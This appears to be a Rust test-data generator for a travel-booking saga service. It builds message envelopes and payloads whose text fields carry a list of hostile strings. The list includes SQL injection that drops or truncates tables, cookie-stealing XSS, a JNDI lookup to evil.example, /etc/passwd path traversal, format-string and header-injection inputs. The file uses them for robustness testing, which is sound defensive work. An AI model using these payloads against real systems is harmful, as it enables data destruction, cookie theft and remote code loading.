//! Hostile text, a decodable payload for each message type, and the
//! envelope around it.

use serde_json::{Value, json};

use super::rng::Rng;
use crate::trips::trip_json;

pub const DESTINATIONS: &[&str] = &[
    "LAX", "SFO", "SEA", "ORD", "BOS", "MIA", "DEN", "ATL", "LHR", "CDG",
];

/// Events with payloads that decode (checked in `templates_decode`).
pub const EVENT_TYPES: &[&str] = &[
    "search.failed",
    "payment.authorized",
    "payment.declined",
    "payment.failed",
    "payment.captured",
    "payment.capture_failed",
    "payment.voided",
    "payment.void_failed",
    "order.cancelled",
    "order.cancel_failed",
    "notification.sent",
    "notification.failed",
    "step.outcome_unknown",
    "saga.timer_fired",
    "saga.retry_requested",
    "saga.abort_requested",
];

/// Commands with payloads that decode. Only ever sent to a queue they do
/// not belong on.
pub const COMMAND_TYPES: &[&str] = &[
    "search.offers",
    "payment.capture",
    "payment.void",
    "order.cancel",
];

const HOSTILE: &[&str] = &[
    "'; DROP TABLE sagas; --",
    "\" OR \"1\"=\"1",
    "1; DELETE FROM dead_letters WHERE true; --",
    "$$; TRUNCATE inbox CASCADE; $$",
    "Robert'); DROP TABLE students;--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%s%s%s%n%x",
    "\u{0}\u{1}\u{7}\u{8}\u{1b}[2J\r\n\t\u{7f}",
    "\u{202e}fdp.exe\u{200b}\u{feff}",
    "😀🔥👩‍👩‍👧‍👦",
    "\\u0000\\\"",
    "nobody@example.com\r\nBcc: everyone@example.com",
];

pub(super) fn hostile(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => (*rng.pick(HOSTILE)).to_owned(),
        1 => (0..3).map(|_| *rng.pick(HOSTILE)).collect(),
        2 => rng.pick(HOSTILE).repeat(1 + rng.below(40)),
        _ => {
            let n = 1 + rng.below(200);
            (0..n)
                .filter_map(|_| char::from_u32(rng.below(0x1_1000) as u32))
                .collect()
        }
    }
}

/// At least 100 KB of hostile text.
pub(super) fn huge(rng: &mut Rng) -> String {
    let unit = rng.pick(HOSTILE);
    unit.repeat(100_000 / unit.len() + 1)
}

fn key(rng: &mut Rng, step: &str) -> String {
    format!("{}:{step}:{}", rng.uuid_v4(), 1 + rng.below(3))
}

fn money(rng: &mut Rng) -> Value {
    json!({"amount_minor": 1_000 + rng.below(90_000), "currency": "USD"})
}

/// A payload for `message_type` with `text` in its free-text fields. It
/// decodes for every type of `EVENT_TYPES` and `COMMAND_TYPES`; the others
/// are only used where the body is refused before the payload is read.
pub fn payload(rng: &mut Rng, message_type: &str, text: &str) -> Value {
    match message_type {
        "search.failed" => json!({"idempotency_key": key(rng, "search"), "detail": text}),
        "payment.authorized" | "payment.captured" => json!({
            "idempotency_key": key(rng, "authorize"),
            "payment_intent_id": text,
            "amount": money(rng),
        }),
        "payment.declined" => json!({
            "idempotency_key": key(rng, "authorize"),
            "decline_code": text,
            "detail": text,
        }),
        "payment.failed" => json!({"idempotency_key": key(rng, "authorize"), "detail": text}),
        "payment.capture_failed" | "payment.void_failed" => json!({
            "idempotency_key": key(rng, "capture"),
            "payment_intent_id": "pi_3Mtw",
            "detail": text,
        }),
        "payment.voided" | "payment.void" => {
            json!({"idempotency_key": key(rng, "void"), "payment_intent_id": text})
        }
        "order.cancelled" | "order.cancel" => {
            json!({"idempotency_key": key(rng, "cancel"), "order_id": text})
        }
        "order.cancel_failed" => json!({
            "idempotency_key": key(rng, "cancel"),
            "order_id": "ord_0000A",
            "detail": text,
        }),
        "notification.sent" => json!({"idempotency_key": key(rng, "notify"), "email_id": text}),
        "notification.failed" => json!({"idempotency_key": key(rng, "notify"), "detail": text}),
        "step.outcome_unknown" => json!({
            "idempotency_key": key(rng, "order"),
            "step": "order",
            "detail": text,
        }),
        "saga.timer_fired" => json!({
            "timer": {"kind": "recheck_step", "idempotency_key": key(rng, "order")}
        }),
        "saga.retry_requested" | "saga.abort_requested" => {
            json!({"operator": text, "reason": text})
        }
        "search.offers" => json!({
            "idempotency_key": key(rng, "search"),
            "origin": "JFK",
            "destination": *rng.pick(DESTINATIONS),
            "departure_date": "2027-03-14",
            "passenger_ages": [30],
            "cabin_class": "economy",
            "max_connections": 1,
        }),
        "payment.capture" => json!({
            "idempotency_key": key(rng, "capture"),
            "user_id": "usr_hostile",
            "payment_intent_id": text,
            "amount": money(rng),
        }),
        "trip.requested" => trip_json(),
        // Own commands of worker queues: only sent in undecodable bodies.
        "payment.authorize" => json!({
            "idempotency_key": key(rng, "authorize"),
            "amount": money(rng),
            "payment_method": "pm_card_visa",
            "description": text,
        }),
        "order.create" => json!({
            "idempotency_key": key(rng, "order"),
            "offer_id": "off_0000A",
            "amount": money(rng),
            "passengers": [],
        }),
        _ => json!({"idempotency_key": key(rng, "notify"), "to": "a@example.com", "content": {}}),
    }
}

pub fn wire(rng: &mut Rng, message_type: &str, payload: Value) -> Value {
    let mut wire = json!({
        "message_id": rng.uuid_v7(),
        "saga_id": rng.uuid_v4(),
        "message_type": message_type,
        "schema_version": 1,
        "occurred_at": "2026-11-21T12:00:00Z",
        "payload": payload,
    });
    if rng.below(3) == 0 {
        wire["causation_id"] = json!(rng.uuid_v7());
        wire["traceparent"] = json!("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01");
    }
    wire
}

pub fn to_vec(value: &Value) -> Vec<u8> {
    serde_json::to_vec(value).unwrap()
}
